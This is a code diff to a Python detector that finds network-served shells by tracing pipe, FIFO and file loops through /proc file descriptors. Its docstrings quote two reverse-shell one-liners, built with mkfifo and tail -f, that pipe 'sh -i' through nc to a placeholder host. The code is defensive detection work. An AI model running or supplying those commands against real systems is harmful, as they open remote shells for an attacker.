@@ -1,5 +1,5 @@
-"""A shell served to the network through pipes: its standard streams in a loop of pipes and
-FIFOs that passes through a process holding a connection. `mkfifo f; cat f | sh -i 2>&1 | nc
+"""A shell served to the network through pipes: its standard streams in a loop of pipes,
+FIFOs and files that passes through a process holding a connection. `mkfifo f; cat f | sh -i 2>&1 | nc
 HOST PORT > f`: sh's output is nc's input, nc's output goes into f, cat reads f into sh's
 input. No process has a socket on its standard streams, no command line names a shell served
 to the network; only the pipes' ends, read from /proc/PID/fd and fdinfo, show the loop.
@@ -41,7 +41,8 @@ _TERMINALS = ("/dev/pts/", "/dev/tty", "/dev/console")
 
 @dataclass(frozen=True)
 class Ends:
-    """The pipes and FIFOs a process has open, by identity ('pipe:[N]', 'fifo:DEV:INO')."""
+    """The pipes, FIFOs and files a process has open, by identity ('pipe:[N]',
+    'fifo:DEV:INO', 'file:DEV:INO')."""
 
     reads: frozenset[str] = frozenset()
     writes: frozenset[str] = frozenset()
@@ -98,8 +99,9 @@ def _link(pid: int, fd: str) -> str:
         return ""
 
 
-def pipe_end(pid: int, fd: int | str, link: str) -> str | None:
-    """The identity of a pipe or FIFO open on ``fd`` (its link ``link``), else None."""
+def pipe_end(pid: int, fd: int | str, link: str, files: bool = False) -> str | None:
+    """The identity of a pipe or FIFO open on ``fd`` (its link ``link``), or, given
+    ``files``, of a regular file ('file:DEV:INO'), else None."""
     if link.startswith("pipe:["):
         return link
     if not link.startswith("/"):
@@ -108,7 +110,10 @@ def pipe_end(pid: int, fd: int | str, link: str) -> str | None:
         found = os.stat(f"/proc/{pid}/fd/{fd}")  # the open file's inode: nothing is opened
     except OSError:
         return None
-    return f"fifo:{found.st_dev}:{found.st_ino}" if stat.S_ISFIFO(found.st_mode) else None
+    if stat.S_ISFIFO(found.st_mode):
+        return f"fifo:{found.st_dev}:{found.st_ino}"
+    return f"file:{found.st_dev}:{found.st_ino}" if files and stat.S_ISREG(found.st_mode) \
+        else None
 
 
 def may_be_piped(stdio: list[str] | tuple[str, ...]) -> bool:
@@ -174,11 +179,13 @@ def stdio_links(pid: int) -> tuple[str, ...]:
 
 
 def read_ends(pid: int) -> Ends:
-    """The pipes and FIFOs ``pid`` has open, each as read or written (fdinfo's flags)."""
+    """The pipes, FIFOs and regular files ``pid`` has open, each as read or written
+    (fdinfo's flags). A file closes a loop as a FIFO does where one process appends to it
+    and another follows it (`tail -f log | sh -i 2>&1 | nc HOST PORT >> log`)."""
     reads, writes = set(), set()
     for fd, link in _open_links(pid):
         try:
-            end = pipe_end(pid, fd, link)
+            end = pipe_end(pid, fd, link, files=True)
             mode = _access_mode(pid, fd) if end is not None else None
         except OSError:
             continue  # closed meanwhile
